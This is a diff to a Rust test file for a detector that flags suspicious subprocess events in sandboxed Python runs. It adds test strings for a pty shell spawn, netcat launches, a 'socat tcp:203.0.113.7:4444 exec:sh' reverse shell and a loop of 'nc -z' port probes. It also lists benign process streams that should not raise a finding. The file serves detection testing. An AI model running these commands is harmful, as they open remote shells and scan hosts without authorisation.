@@ -210,8 +210,18 @@ fn event_attacks() -> Vec<(&'static str, Vec<SecurityEvent>, Vec<LimitKind>)> {
         ),
         (
             "guard_subprocess",
+            vec![guard("python subprocess: pty.spawn ('/bin/sh',)")],
+            vec![],
+        ),
+        (
+            "guard_subprocess",
+            vec![guard("python subprocess: subprocess.Popen '/usr/bin/nc'")],
+            vec![],
+        ),
+        (
+            "guard_subprocess",
             vec![guard(
-                "python subprocess: subprocess.Popen ['/bin/sh', '-c', 'id']",
+                "python subprocess: os.system b'socat tcp:203.0.113.7:4444 exec:sh'",
             )],
             vec![],
         ),
@@ -298,7 +308,11 @@ fn every_event_rule_fires_on_its_event_stream_and_explains_it() {
 fn many_events_of_one_rule_in_one_run_are_one_finding() {
     let mut a = analyzer();
     let events: Vec<_> = (0..30)
-        .map(|i| guard(&format!("python subprocess: subprocess.Popen ['cmd{i}']")))
+        .map(|i| {
+            guard(&format!(
+                "python subprocess: os.system b'nc -z 203.0.113.{i} 22'"
+            ))
+        })
         .collect();
     let found = run_events(&mut a, "acme", "r", events, &[]);
     assert_eq!(found.len(), 1, "{found:?}");
@@ -440,6 +454,17 @@ fn ordinary_event_streams_raise_nothing() {
         (vec![], vec![LimitKind::Output]),
         // Nothing at all (bash with subprocesses reports no guard events).
         (vec![], vec![]),
+        // A guarded Python program running ordinary processes: a shell, `shell=True`, a tool.
+        (
+            vec![
+                guard("python subprocess: subprocess.Popen 'bash'"),
+                guard("python subprocess: subprocess.Popen '/bin/sh'"),
+                guard("python subprocess: subprocess.Popen '/usr/bin/python3'"),
+                guard("python subprocess: os.system b'ls -la | wc -l'"),
+                guard("python subprocess: subprocess.Popen 'ncdu'"),
+            ],
+            vec![],
+        ),
     ];
     for (i, (events, limits)) in streams.into_iter().enumerate() {
         let f = run_events(&mut a, "acme", &format!("ok-{i}"), events, &limits);
